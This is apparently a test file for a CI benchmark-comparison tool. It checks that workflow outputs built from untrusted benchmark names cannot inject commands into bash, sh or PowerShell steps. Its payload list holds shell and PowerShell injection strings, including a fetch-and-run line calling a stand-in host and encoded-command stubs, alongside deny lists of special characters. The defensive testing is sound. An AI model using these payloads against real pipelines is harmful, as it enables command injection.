// The reusable workflow's outputs (verdict, worst, cost, ...) carry names from untrusted results, and a
// caller inlines them into its own `run:` steps with `${{ }}`, in bash, sh or pwsh, unquoted or in quotes.
// Each output must be inert there. In bash and sh (dash) that is tried: every output of hostile results is
// inlined as an argument, in double and in single quotes, and as `W=<value>` (an assignment, where any
// second word would be run as a command), and nothing runs or expands. The results schema refuses such
// names before any output is built (tried below); these outputs are built from them
// directly, as if a file had got past it. PowerShell is not on
// this machine (no package registry it can reach serves it: Microsoft ships it from its own repository and
// as a NuGet tool), so its documented quoting, parsing and special-character rules are checked on the
// alphabet instead: no output holds a character or sequence they give a meaning.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, test } from 'node:test';
import { NO_BREAK_SPACE, OUTPUT_ALPHABET, workflowOutputs } from '../../src/compare/outputs.js';
import { parseBenchName } from '../../src/history/gab.js';
import { outputWords } from '../../src/reading/answer.js';
import { cli, fixture } from './helpers.js';

const ROOT = new URL('../..', import.meta.url).pathname;

// Each would run `touch` (or fetch and run a script) in one shell and quoting or another if it survived.
const PAYLOADS = [
  'x\u201d (iex(iwr http://e.example/p)) \u201c',
  'x\u2019; iex(iwr http://e.example/p); \u2018',
  "x'; Invoke-Expression 'touch p1'; '",
  'x"; touch p2; "',
  '$(touch p3)',
  '`touch p4`',
  '${IFS}$(touch${IFS}p5)',
  'x;touch p6',
  'x|touch p7',
  'x&&touch p8',
  'x>p9',
  'x<p10',
  'x\\";touch p11;#',
  '$env:PATH @PSVersionTable @(touch p12) @{a=1} [IO.File]::Delete(1) {touch p13}',
  'x --% & touch p14',
  'x\u2013Command touch p15 \u2014x \u2015y',
  '\u201etouch p16\u201f \u201a\u201b',
  'x # comment; touch p17',
  'a\nb\r\n::error::c\u2028d\u2029e\u202ef\u2066g',
  '*?~! ^ touch p18',
  '\u200btouch\u2060p19\ufeff',
  // A word that would be the command after `W=`: a metric named like one, and the names of the issue.
  'x touch p20',
  'x;touch p21',
  '$(touch p22)',
  'x\ntouch p23',
  'x\ttouch p24',
  'x\u00a0touch p25',
  'x pwsh -e AAAA',
];

/** Pseudo-random strings over printable ASCII and the Unicode a shell or PowerShell may treat specially. */
function randomPayloads(n, seed = 46) {
  const pool = [
    ...Array.from({ length: 95 }, (_, i) => String.fromCharCode(32 + i)),
    ...'‘’‚‛“”„‟–—―−±≥×…\u00a0\u200b\u2060\u202e\n\t',
  ];
  let x = seed;
  const next = () => ((x = (x * 1103515245 + 12345) % 2 ** 31), x / 2 ** 31);
  return Array.from({ length: n }, () =>
    Array.from({ length: 40 }, () => pool[Math.floor(next() * pool.length)]).join(''),
  );
}

/** Every output of one comparison whose every name, sentence and cost sentence is `p`. @param {string} p */
function outputsOf(p) {
  return workflowOutputs([
    {
      gate: /** @type {any} */ ({
        verdict: 'regression',
        regressed: [{ benchmark: p, metric: p, where: p, change: 0.5 }],
        inconclusive: [],
        unseen: null,
        sentence: `Regression in 1 of 1 gated metrics; the worst: ${p} +50.0%.`,
      }),
      cost: { sentence: `Your job (${p}) costs +1.0 s [+0.5 s, +2.0 s] in ${p}: +$0.10`, seconds: null, per1000: 0.1 },
    },
  ]);
}

/**
 * What PowerShell gives a meaning to, from its documentation (about_Quoting_Rules, about_Parsing,
 * about_Special_Characters, about_Splatting, about_Comments, about_Operators): the characters, and the
 * sequences of otherwise plain characters.
 */
const PWSH_CHARACTERS = {
  '"': 'starts or ends an expandable string',
  "'": 'starts or ends a verbatim string',
  '\u201c': 'a double quote (left)',
  '\u201d': 'a double quote (right)',
  '\u201e': 'a double quote (low)',
  '\u2018': 'a single quote (left)',
  '\u2019': 'a single quote (right)',
  '\u201a': 'a single quote (low)',
  '\u201b': 'a single quote (reversed)',
  $: 'a variable or $( ) subexpression, also inside "..."',
  '`': 'the escape character, also inside "..."',
  '(': 'a grouping expression, which runs a command',
  ')': 'ends one',
  '{': 'a script block',
  '}': 'ends one',
  '[': 'a type literal, whose static methods run',
  ']': 'ends one',
  ';': 'separates statements',
  '|': 'a pipeline',
  '&': 'the call operator, or a background job',
  '<': 'redirection (reserved)',
  '>': 'redirection',
  '#': 'a comment: the rest of the line is cut',
  '\u2013': 'read as a dash (-), an operator or parameter in disguise',
  '\u2014': 'read as a dash',
  '\u2015': 'read as a dash',
  '\n': 'ends the statement',
  '\r': 'ends the statement',
  '!': 'the -not operator',
  '*': 'a wildcard',
  '?': 'a wildcard, and Where-Object',
};
const PWSH_SEQUENCES = [
  [/(^|[^A-Za-z0-9])@/, 'splatting: @name passes a variable'],
  [/--%/, 'the stop-parsing token: the rest of the line goes unparsed'],
];
// POSIX sh (XCU 2.2 Quoting, 2.6 Word Expansions): what an unquoted word may not hold to stay one literal word.
const SH_CHARACTERS = '|&;<>()$`\\"\'*?[]#~!{}^\n\t\r';

const dir = mkdtempSync(path.join(tmpdir(), 'dind-bench-outputs-'));
after(() => rmSync(dir, { recursive: true, force: true }));

const values = [...PAYLOADS, ...randomPayloads(200)].flatMap((p) => Object.entries(outputsOf(p)));

test('every output is ASCII letters, digits and . , : % + - / @ = _ joined by U+00A0, nothing PowerShell or sh reads', () => {
  for (const [name, v] of values) {
    assert.match(v, OUTPUT_ALPHABET, `${name}: ${JSON.stringify(v)}`);
    for (const c of v) {
      assert.ok(!(c in PWSH_CHARACTERS), `${name} holds ${JSON.stringify(c)}, ${PWSH_CHARACTERS[c]}: ${v}`);
      assert.ok(!SH_CHARACTERS.includes(c), `${name} holds ${JSON.stringify(c)}: ${v}`);
    }
    for (const [re, why] of PWSH_SEQUENCES) assert.doesNotMatch(v, /** @type {RegExp} */ (re), `${name}: ${why}`);
    assert.doesNotMatch(v, /[ \t\n]/, `${name}: one shell word (no space, tab or newline)`);
    assert.ok(v.length <= 600, name);
  }
});

test('inlined into bash and sh as an argument, in double and in single quotes: nothing runs or expands', () => {
  // Distinct values only (many outputs repeat), each in every shell and quoting.
  const distinct = [...new Set(values.map(([, v]) => v))];
  for (const shell of ['bash', 'sh']) {
    // One script per shell, on its standard input: each value printed four ways.
    const lines = distinct.flatMap((v) => [`echo ${v}`, `echo "${v}"`, `echo '${v}'`, `X="${v}"; echo "$X"`]);
    const r = spawnSync(shell, ['-s'], {
      input: `${lines.join('\n')}\n`,
      cwd: dir,
      encoding: 'utf8',
      env: { PATH: process.env.PATH },
    });
    assert.equal(r.status, 0, `${shell}: ${r.stderr}`);
    assert.deepEqual(readdirSync(dir), [], `${shell} ran something`);
    const out = r.stdout.split('\n');
    distinct.forEach((v, i) => {
      const [bare, dq, sq, assigned] = out.slice(i * 4, i * 4 + 4);
      // Unquoted, still one word: the shell splits at no U+00A0.
      assert.equal(bare, v, `${shell} unquoted: ${v}`);
      assert.equal(dq, v, `${shell} "…": ${v}`);
      assert.equal(sq, v, `${shell} '…': ${v}`);
      assert.equal(assigned, v, `${shell} X="…": ${v}`);
    });
  }
});

test('inlined as W=<value> into bash -c and sh -c: an assignment only, no second word runs as a command', () => {
  const distinct = [...new Set(values.map(([, v]) => v))];
  for (const shell of ['bash', 'sh']) {
    // As a caller's `run:` step reads once GitHub has put the output in (`W=${{ needs.x.outputs.worst }}`),
    // each followed by a line that prints what W holds; a few hundred values per `-c` script.
    for (let i = 0; i < distinct.length; i += 200) {
      const chunk = distinct.slice(i, i + 200);
      const script = chunk.map((v) => `W=${v}\nprintf '%s\\n' "$W"`).join('\n');
      // (standard input closed: on a socket, as Node's pipes are, bash would take itself for a remote shell
      // and read ~/.bashrc)
      const r = spawnSync(shell, ['-c', script], {
        cwd: dir,
        encoding: 'utf8',
        env: { PATH: process.env.PATH },
        stdio: ['ignore', 'pipe', 'pipe'],
      });
      assert.equal(r.status, 0, `${shell}: ${r.stderr}`);
      assert.equal(r.stderr, '', `${shell}: something was run as a command`);
      assert.deepEqual(r.stdout.split('\n').slice(0, -1), chunk, `${shell}: W holds each whole value`);
      assert.deepEqual(readdirSync(dir), [], `${shell} ran something`);
    }
    // The control: the same output with its words joined by ASCII spaces runs its second word.
    const spacedWorst = outputsOf('x touch p20').worst.split(NO_BREAK_SPACE).join(' ');
    const control = spawnSync(shell, ['-c', `W=${spacedWorst}`], { cwd: dir, stdio: 'ignore' });
    assert.equal(control.status, 0, shell);
    assert.ok(readdirSync(dir).includes('p20'), `${shell}: W=${spacedWorst} ran touch`);
    for (const f of readdirSync(dir)) rmSync(path.join(dir, f));
  }
});

test('a results file whose metric or benchmark name is not one word is refused before any output is built', async () => {
  const work = mkdtempSync(path.join(tmpdir(), 'dind-bench-outputs-file-'));
  try {
    for (const [field, name] of [
      ['metric', 'x pwsh -e AAAA'],
      ['metric', '$(touch MARKER)'],
      ['benchmark', 'x;touch MARKER'],
      ['metric', 'x\ntouch MARKER'],
    ]) {
      const doc = fixture();
      if (field === 'metric') doc.cells[0].metrics[0].metric = name;
      else doc.cells[0].benchmark = name;
      const file = path.join(work, 'results.json');
      writeFileSync(file, JSON.stringify(doc));
      const json = path.join(work, 'comparison-1.json');
      const r = await cli(['compare', file, '--json', json, '--markdown', path.join(work, 'comparison-1.md')], {
        GITHUB_ACTIONS: '',
      });
      assert.equal(r.code, 1, `${name}: ${r.stderr}`);
      const where = field === 'metric' ? '/cells/0/metrics/0/metric' : '/cells/0/benchmark';
      // The file, the field with the name as it is (escaped), and what to do.
      assert.ok(r.stderr.includes(`${file}: not a valid results document`), r.stderr);
      assert.ok(r.stderr.includes(`${where} is ${JSON.stringify(name)}: `), r.stderr);
      assert.match(
        r.stderr,
        /one word of ASCII letters, digits and _ \. : \/ - .*rename it where the results were made/,
      );
      // Nothing built from it: no comparison document for the outputs, no report, no marker.
      assert.deepEqual(readdirSync(work).sort(), ['results.json'], name);
    }
  } finally {
    rmSync(work, { recursive: true, force: true });
  }
});

test('an output of several words reads as a sentence: its words joined by a no-break space', () => {
  const out = outputsOf('x touch p1');
  assert.equal(out.worst.split(NO_BREAK_SPACE).join(' '), 'x touch p1 x touch p1 on x touch p1 +50.0%');
  assert.match(out.sentence, /^Regression\u00a0in\u00a01\u00a0of/);
});

test("every benchmark and metric name in the repository's fixtures fits the schema's one-word rule", () => {
  const schema = JSON.parse(readFileSync(path.join(ROOT, 'schema/results.v1.schema.json'), 'utf8'));
  const word = new RegExp(schema.definitions.seriesName.pattern);
  /** @type {string[]} */
  const names = [];
  const visit = (/** @type {unknown} */ o) => {
    if (Array.isArray(o)) o.forEach(visit);
    else if (o && typeof o === 'object') {
      for (const k of ['benchmark', 'metric']) {
        const v = /** @type {Record<string, unknown>} */ (o)[k];
        if (typeof v === 'string') names.push(v);
      }
      Object.values(o).forEach(visit);
    }
  };
  const fixtures = path.join(ROOT, 'test/fixtures');
  for (const f of readdirSync(fixtures, { recursive: true, encoding: 'utf8' }).filter((x) => x.endsWith('.json'))) {
    visit(JSON.parse(readFileSync(path.join(fixtures, f), 'utf8')));
  }
  // github-action-benchmark's data.js, as that action wrote it from dind-bench's export: its bench names.
  const gab = JSON.parse(
    readFileSync(path.join(fixtures, 'gab/data.js.txt'), 'utf8').replace(/^\s*window\.BENCHMARK_DATA\s*=\s*/, ''),
  );
  for (const entries of Object.values(gab.entries))
    for (const e of /** @type {any[]} */ (entries))
      for (const b of e.benches) {
        const parsed = parseBenchName(b.name);
        names.push(...(parsed ? [parsed.benchmark, parsed.metric] : [b.name]));
      }
  assert.ok(names.length > 1000, `${names.length} names`);
  assert.deepEqual(
    names.filter((n) => !word.test(n)),
    [],
  );
});

test('a verdict the gate does not give is output as inconclusive, never as its text', () => {
  for (const v of ['x touch p1', '$(touch p2)', 'regression; touch p3', '__proto__', 'constructor']) {
    const out = workflowOutputs([{ gate: /** @type {any} */ ({ verdict: v, regressed: [], inconclusive: [] }) }]);
    assert.equal(out.verdict, 'inconclusive', v);
  }
});

/** An output as a person reads it: its no-break spaces as spaces. @param {string} v */
const spaced = (v) => v.split(NO_BREAK_SPACE).join(' ');

test('what the outputs need stays readable', () => {
  const [plain] = [
    workflowOutputs([
      {
        gate: /** @type {any} */ ({
          verdict: 'regression',
          regressed: [{ benchmark: 'lifecycle', metric: 'startup.total_ms', where: 'dind@26.1/debian', change: 0.123 }],
          inconclusive: [],
          unseen: 0.05,
          sentence: 'Regression in 1 of 3 gated metrics; the worst: lifecycle startup.total_ms (sees ≥ 5%).',
        }),
        cost: {
          sentence:
            'Your job (workload.ci, debian) costs +4.2 s [+3.6 s, +5.1 s] in dind@\u206020.10 against docker: +$0.42 per 1,000 jobs',
          // as `compare --json` writes it: the reading's words for an output beside the sentence
          outputSentence: outputWords(
            'Your job (workload.ci, debian) costs +4.2 s [+3.6 s, +5.1 s] in dind@\u206020.10 against docker: +$0.42 per 1,000 jobs',
          ),
          seconds: { diff: 4.21, low: 3.56, high: 5.12 },
          per1000: 0.42,
        },
      },
    ]),
  ];
  assert.equal(spaced(plain.worst), 'lifecycle startup.total_ms on dind@26.1/debian +12.3%');
  assert.equal(plain.unseen, '5%');
  assert.equal(
    spaced(plain.sentence),
    'Regression in 1 of 3 gated metrics, the worst: lifecycle startup.total_ms, sees at least 5%.',
  );
  assert.equal(
    spaced(plain.cost),
    'Your job, workload.ci, debian, costs +4.2 s from +3.6 s to +5.1 s in dind@20.10 against docker: +USD 0.42 per 1,000 jobs',
  );
  assert.equal(plain['cost-interval'], '3.56,5.12');
});
